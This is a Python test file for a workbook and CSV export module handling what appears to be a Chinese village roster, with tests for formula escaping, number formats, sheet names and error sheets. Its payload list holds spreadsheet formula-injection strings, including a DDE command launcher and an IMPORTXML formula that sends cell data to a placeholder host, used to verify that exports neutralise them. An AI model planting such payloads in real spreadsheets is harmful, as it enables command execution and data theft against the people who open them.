"""Workbooks written: read back as they were, texts stay texts, refused rows can be mended."""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from books import book, saved

import models
from exports.errorrows import REASON, write_errors
from exports.workbook import Column, Sheet, read, sheet_name, to_csv, write
from models.areanames import AreaIndex
from models.cells import TEXT
from models.months import Month
from models.roster_columns import ROSTER
from models.roster_rows import read_roster
from models.words import Message, Refusal

SAMPLES = Path(__file__).parent / "samples"
HEADINGS = ["所在村组", "证件号码", "姓名", "暂停年月"]
PERSON = ["天宁镇磁窑村", "141120194105164046", "孙林改", "202003"]
with (Path(models.__file__).parent / "data" / "areas_141122.csv").open(encoding="utf-8") as areas_file:
    AREAS = AreaIndex((row["code"], row["name"]) for row in csv.DictReader(areas_file))

PAYLOADS = [sign + rest for sign in ("=", "+", "-", "@", "\t=", "\r=", "|", "%", " =")
            for rest in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x","y")', "SUM(A1:A9)")] + [
    '=IMPORTXML(CONCAT("http://x?",A1),"//a")', "http://example.invalid", "mailto:x", "internal:A1", "{=1+1}", "1e9",
    "0012", "TRUE", "2021-08-01", "<b>&amp;</b>", "_x0041_", "\x01\x02", "'=1", "=", "＝1+1", "𬴂\u0301"]


def written(*sheets):
    out = io.BytesIO()
    write(sheets, out)
    return out.getvalue()


def values(table):
    return [[cell.value for cell in row.cells] for row in table.rows]


COLUMNS = [Column("证件号码", 20, "id"), Column("姓名"), Column("月", 9, "month"), Column("日", 12, "date"),
           Column("金额", 12, "money"), Column("人数", 8, "number")]


def test_what_is_written_is_read_back():
    rows = [("141120194105164046", "孙林改", Month(2021, 8), date(2021, 8, 1), 216, 15),
            ("0012", "", None, None, -5, None),
            ("1", "甲", Month(1999, 12), date(1899, 1, 1), 123456789012, Decimal("98.3"))]
    table = read(written(Sheet("补发/明细", COLUMNS, rows, lines=["标题", "单位：元"], notes=["制表人："],
                               watermark="a&b")))
    assert table.sheet == "补发·明细"
    assert [row.number for row in table.rows] == [1, 2, 3, 4, 5, 6, 8]
    assert values(table)[3:6] == [
        ["141120194105164046", "孙林改", "2021-08", datetime(2021, 8, 1), 2.16, 15], ["0012", None, None, None, -0.05],
        ["1", "甲", "1999-12", "1899-01-01", 1234567890.12, 98.3]]


@pytest.mark.parametrize("kind", ["text", "id"])
def test_no_payload_becomes_a_formula(kind):
    data = written(Sheet("s", [Column("t", 9, kind)], [(payload,) for payload in PAYLOADS]))
    made = openpyxl.load_workbook(io.BytesIO(data))
    column = [cell for cell, in made.active.iter_rows(min_row=2)]
    assert {cell.data_type for cell in column} == {"s"}
    assert not any(cell.hyperlink for cell in column)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert [row.cells[0].kind for row in read(data).rows] == [TEXT] * (len(PAYLOADS) + 1)


def test_payloads_in_csv_are_shielded_and_come_back():
    out = io.BytesIO()
    plain = [payload for payload in PAYLOADS if not set(payload) & set("\r\x01")]
    to_csv([Column("t"), Column("m", kind="money")], [(payload, 5) for payload in plain] + [(None, None)], out)
    raw = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert not [row for row in raw if row[0][:1] in ("=", "+", "-", "@", "\t")]
    assert values(read(out.getvalue()))[1:] == [[payload, "0.05"] for payload in plain]


def test_ids_and_blank_cells_below_are_text_for_excel():
    data = written(Sheet("模板", [Column("证件号码", 20, "id"), Column("性别", choices=("男",
    "女"))], [("1", None)], hidden=False))
    page = openpyxl.load_workbook(io.BytesIO(data)).active
    assert (page["A2"].number_format, page["B2"].number_format) == ("@", "@")
    assert page.data_validations.dataValidation[0].formula1 == '"男,女"'
    assert (page.freeze_panes, page.auto_filter.ref) == ("A2", "A1:B2")


def test_money_and_dates_look_like_themselves():
    page = openpyxl.load_workbook(io.BytesIO(written(Sheet("s", COLUMNS, [
        ("1", "a", None, date(2021, 8, 1), 100, 3)])))).active
    assert [page.cell(2, place).number_format for place in (4, 5, 6)] == ["yyyy-mm-dd", "#,##0.00", "0"]


def test_what_cannot_be_written_is_refused():
    with pytest.raises(Refusal, match="32768"):
        written(Sheet("s", [Column("t")], [("x" * 32768,)]))
    with pytest.raises(ValueError):
        Column("t", kind="unheard of")
    with pytest.raises(ValueError):
        Column("t", choices=("很长的选项",) * 60)
    with pytest.raises(ValueError):
        written(Sheet("s", [Column("t")], [("a", "b")]))


@pytest.mark.parametrize(("title", "name"), [("a/b:c", "a·b·c"), ("", "Sheet"), ("'x'", "x"), ("长" * 40, "长" * 31)])
def test_sheet_names(title, name):
    assert sheet_name(title) == name


def test_a_hidden_sheet_and_several_sheets():
    data = written(Sheet("一", [Column("t")], [("a",)]), Sheet("二", [Column("t")], [("b",)], hidden=True))
    assert (read(data).sheet, read(data, sheet="二").rows[1].cells[0].value) == ("一", "b")


def errors_of(table):
    listing = read_roster(table, AREAS)
    out = io.BytesIO()
    write_errors(table, listing.headings, listing.readings, out)
    return listing, out.getvalue()


def test_refused_rows_keep_their_columns_and_can_be_mended():
    table = read(SAMPLES / "roster_messy.xlsx", recognises=ROSTER.recognises)
    listing, data = errors_of(table)
    page = (made := openpyxl.load_workbook(io.BytesIO(data))).active
    heading = [cell.shown for cell in next(row for row in table.rows if row.number == 3).cells]
    assert [cell.value for cell in page[1]] == [*heading, REASON]
    assert page.max_row - 1 == sum(reading.refused for reading in listing) == 6
    assert {cell.number_format for cell in page["C"][1:]} == {"@"}
    reds = {cell.coordinate for row in page for cell in row if cell.fill.fgColor.rgb == "FFFFC7CE"}
    assert reds == {"C2", "C3", "C4", "F5", "A6", "C7"}
    page["C2"], page["C3"], page["C4"] = "142320194804168971", "141120193801134448", "141120194006063936"
    page["C2"] = fixed(page["C2"].value)
    page["C3"] = fixed(page["C3"].value)
    page["F5"], page["A6"] = "202103", "天宁镇磁窑村"
    again = read_roster(read(saved(made), recognises=ROSTER.recognises), AREAS)
    assert (len(again), [reading.problems for reading in again if reading.refused]) == (6, [])


def fixed(number):
    from stdnum.cn.ric import calc_check_digit
    return number[:17] + calc_check_digit(number)


def test_unmended_rows_are_refused_for_the_same_reasons_again():
    rows = [HEADINGS, [PERSON[0], float(PERSON[1]), "w", "202003"], [*PERSON[:3], 2020.1],
            [PERSON[0], "141120194709219466", "孟生", datetime(2150, 1, 1)],
            [PERSON[0], "x", "y", datetime(2020, 1, 1)], ["没有村", 141120451206594, "z", "202001"],
            ["天宁镇磁窑村", "141120194006063936", "=A1", "202001"]]
    listing, data = errors_of(read(book(rows)))
    again, data = errors_of(read(data))
    assert [[problem.code for problem in reading.problems] for reading in again] == [
        ["id_precision_lost"], ["month_format"], ["month_format"], ["id_format"], ["unknown_area"], ["formula"]]
    assert [[cell.value for cell in row][-1] for row in openpyxl.load_workbook(io.BytesIO(data)).active][0] == REASON
    assert openpyxl.load_workbook(io.BytesIO(data)).active.max_column == 5


def test_a_heading_in_two_levels_becomes_one():
    rows = [["村", "证件号码", "姓名", "暂停信息"], [None, None, None, "暂停年月"], [*PERSON[:3], "?"]]
    _, data = errors_of(read(book(rows)))
    assert values(read(data))[0] == ["村", "证件号码", "姓名", "暂停年月", REASON]


def test_reasons_are_said_in_the_readers_language():
    table = read(book([HEADINGS, [*PERSON[:3], "?"]]))
    listing = read_roster(table, AREAS)
    listing.readings[0].complain("姓名", "conflict", Message("{x} changed", {"x": 1}))
    out = io.BytesIO()
    write_errors(table, listing.headings, listing.readings, out, say=lambda text: text.replace("changed", "已改"))
    assert values(read(out.getvalue()))[1][-1].endswith("；姓名：1 已改")
